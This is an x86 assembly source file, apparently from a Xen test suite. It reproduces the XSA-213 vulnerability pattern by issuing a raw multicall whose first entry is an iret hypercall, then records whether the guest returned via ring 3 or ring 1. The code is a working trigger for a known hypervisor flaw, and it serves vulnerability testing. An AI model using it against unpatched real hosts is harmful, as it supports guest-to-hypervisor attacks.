/*
 * pv-multicall: the XSA-213 shape. long mc_iret_call(list, nr) builds an
 * iret-hypercall frame for ring 3 (EAX 0xdead, EIP mc_iret_target) on the
 * kernel stack and issues a raw `int $0x82` multicall, exactly as XTF
 * xsa-213 does. If the multicall's first entry (iret) takes effect, the
 * vCPU lands at ring 3 in mc_iret_target, whose `int $0x21` (DPL 3) comes
 * back to mc_recover; if the multicall returns normally, execution goes on
 * after the int $0x82. Both paths restore the stack and return EAX (the
 * multicall's result). mc_path: 3 = came back through ring 3, 1 = the
 * multicall returned at ring 1.
 */
#include <xen/xen.h>

#define X86_EFLAGS_IF 0x200
#define MC_VEC_RET    0x21

    .text
    .globl mc_iret_call
    .type mc_iret_call, @function
mc_iret_call:
    push %ebp
    push %ebx
    push %esi
    push %edi
    mov 20(%esp), %ebx                  /* list */
    mov 24(%esp), %ecx                  /* nr */
    mov %esp, mc_saved_esp
    movl $0, mc_path
    mov $FLAT_RING3_DS, %edx
    mov %edx, %ds
    mov %edx, %es
    push $FLAT_RING3_SS
    push $pv_user_stack_top
    pushf
    andl $~X86_EFLAGS_IF, (%esp)
    push $FLAT_RING3_CS
    push $mc_iret_target
    push $0xdead                        /* EAX restored by the iret */
    mov $__HYPERVISOR_multicall, %eax
    int $0x82
    movl $1, %ss:mc_path
    jmp mc_join

    .globl mc_recover
mc_recover:                             /* int $0x21 from ring 3 */
    movl $3, %ss:mc_path
mc_join:
    mov %ss:mc_saved_esp, %esp
    mov $FLAT_RING1_DS, %edx
    mov %edx, %ds
    mov %edx, %es
    pop %edi
    pop %esi
    pop %ebx
    pop %ebp
    ret
    .size mc_iret_call, . - mc_iret_call

    .section .user.text, "ax"
    .globl mc_iret_target
mc_iret_target:
    int $MC_VEC_RET
    ud2

    .section .bss
    .balign 4
    .globl mc_path
mc_saved_esp:
    .skip 4
mc_path:
    .skip 4

    .section .note.GNU-stack, "", @progbits
